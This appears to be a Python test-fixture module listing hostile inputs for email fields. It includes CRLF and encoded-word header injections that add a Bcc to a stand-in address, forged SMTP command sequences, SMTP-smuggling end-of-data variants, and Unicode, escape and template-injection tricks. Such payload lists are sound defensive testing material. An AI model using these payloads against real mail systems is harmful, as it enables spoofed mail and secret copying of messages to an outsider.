"""What an attacker would put into a field: line ends, commands, headers, quotes, encodings."""

from __future__ import annotations

import base64

EVIL = "evil@example.net"
COMMAND = f"MAIL FROM:<{EVIL}>"
SECOND_MAIL = f"{COMMAND}\r\nRCPT TO:<{EVIL}>\r\nDATA\r\nSubject: forged\r\n\r\nforged\r\n.\r\n"


def _b_word(text: str, charset: str = "utf-8") -> str:
    return f"=?{charset}?b?{base64.b64encode(text.encode()).decode()}?="


HIDING_WORDS = {
    "word, q, CRLF": "=?utf-8?q?=0D=0ABcc:_evil@example.net?=",
    "word, q, LF": "=?utf-8?q?=0ABcc:_evil@example.net?=",
    "word, q, CR": "=?utf-8?q?=0dBcc:_evil@example.net?=",
    "word, Q, small hex": "=?UTF-8?Q?a=0d=0aBcc=3a_evil@example.net?=",
    "word, latin-1": "=?iso-8859-1?q?=0D=0ABcc:_evil@example.net?=",
    "word with a language": "=?utf-8*en?q?=0D=0ABcc:_evil@example.net?=",
    "word, b, CRLF": _b_word(f"\r\nBcc: {EVIL}"),
    "word, B, LF": _b_word(f"a\nBcc: {EVIL}", "ISO-8859-15"),
    "word, b, no padding": _b_word("ab\r\nBcc: x").rstrip("=").rstrip("?").rstrip("=") + "?=",
    "word, UTF-16": "=?utf-16be?b?AA0ACg==?=",
    "word, UTF-7": "=?utf-7?q?+AA0ACg-Bcc:_evil@example.net?=",
    "word around CRLF": "=?utf-8?q?a\r\nBcc:b?=",
}
"""Encoded words that a reader decodes to a line break."""

WORDS = {
    **HIDING_WORDS,
    "harmless word": "=?utf-8?q?A=C3=A9?=",
    "word without an end": "=?utf-8?q?=0D=0ABcc:_evil",
    "word of no encoding": "=?utf-8?x?=0D=0ABcc:_evil?=",
}

LINE_ENDS = {
    "CR": "\r",
    "LF": "\n",
    "CRLF": "\r\n",
    "CRLF and a header": f"\r\nBcc: {EVIL}",
    "LF and a header": f"\nBcc: {EVIL}",
    "CR and a header": f"\rBcc: {EVIL}",
    "CRLF and a folded line": f"\r\n Bcc: {EVIL}",
    "CRLF and a tab": f"\r\n\tBcc: {EVIL}",
    "a body": "\r\n\r\nforged",
    "a body, LF": "\n\nforged",
    "RCPT": f"\r\nRCPT TO:<{EVIL}>",
    "RCPT, LF": f"\nRCPT TO:<{EVIL}>\n",
    "QUIT": "\r\nQUIT\r\n",
    "RSET and a mail": f"\r\nRSET\r\n{SECOND_MAIL}",
    "a second mail": f"\r\n.\r\n{SECOND_MAIL}",
}

SMUGGLED = {
    f"end of data as {end!r}": end + COMMAND
    for end in (
        "\n.\n",
        "\r.\r",
        "\n.\r\n",
        "\r\n.\n",
        "\r\n.\r",
        "\r.\r\n",
        "\n.\r",
        "\r.\n",
        "\r\r\n.\r\r\n",
        "\r\n\0.\r\n",
    )
}
"""What some servers take for the end of a message (SMTP smuggling)."""

DOTS = {
    "a dot": ".",
    "a line of a dot": "\r\n.",
    "a line of two dots": "\r\n..",
    "lines of dots": "\r\n.\r\n..\r\n...\r\n",
}

CONTROLS = {
    "NUL": "\0",
    "BS": "\b",
    "VT": "\v",
    "FF": "\f",
    "ESC": "\x1b[2J",
    "OSC": "\x1b]0;x\x07",
    "FS": "\x1c",
    "DEL": "\x7f",
    "NEL": "\x85",
    "NEL and a header": f"\x85Bcc: {EVIL}",
    "CSI": "\x9b2J",
}

UNICODE = {
    "line separator": "\u2028",
    "line separator and a header": f"\u2028Bcc: {EVIL}",
    "paragraph separator": "\u2029",
    "no-break space": "\u00a0",
    "ideographic space": "\u3000",
    "byte order mark": "\ufeff",
    "zero width": "\u200b",
    "override": "\u202e",
    "isolate": "\u2066",
    "homograph": "\u0435xample",
    "IDN": "b\u00fccher",
    "punycode": "xn--bcher-kva",
    "fullwidth dot": "\uff0e",
    "fullwidth at": "\uff20",
    "emoji": "\U0001f600",
    "low bytes CRLF": "\u010d\u010aBcc: x",
    "low bytes CRLF, CJK": "\u560d\u560aBcc: x",
    "lone surrogate": "\ud800",
}

SYNTAX = {
    "less": "<",
    "greater": ">",
    "quote": '"',
    "backslash": "\\",
    "open comment": "(",
    "comment": "(evil)",
    "comma": ",",
    "semicolon": ";",
    "colon": ":",
    "at": "@",
    "list": f", {EVIL}",
    "list in brackets": f">, <{EVIL}",
    "second address": f" <{EVIL}>",
    "group": f"evil: {EVIL};",
    "NOTIFY": "> NOTIFY=NEVER",
    "ORCPT": f"> ORCPT=rfc822;{EVIL}",
    "SIZE": " SIZE=1",
    "bracket and SIZE": "> SIZE=1",
    "percent hack": f"%{EVIL}",
    "bang path": "evil!",
}

ESCAPES = {
    "UTF-7": "+AA0ACg-Bcc: x",
    "overlong": "\u00c0\u008d\u00c0\u008aBcc: x",
    "percent": "%0d%0aBcc:x",
    "overlong, percent": "%c0%8d%c0%8aBcc:x",
    "entity": "&#13;&#10;Bcc: x",
    "backslashes": "\\r\\nBcc: x",
}

LONG = {
    "long word": "a" * 1000,
    "long words": "abc " * 400,
    "long, not ASCII": "\u00e9" * 600,
}

TEMPLATES = {
    "code": "{{code}}",
    "another variable": "{{other}}",
    "what every object has": "{{constructor}}",
    "a replacement of JavaScript": "$&$1$`",
    "a replacement of Python": "\\1\\g<0>",
    "a format": "%s%(x)s{0}",
}

PAYLOADS: dict[str, str] = {
    **LINE_ENDS,
    **SMUGGLED,
    **DOTS,
    **CONTROLS,
    **UNICODE,
    **SYNTAX,
    **WORDS,
    **ESCAPES,
    **LONG,
    **TEMPLATES,
}
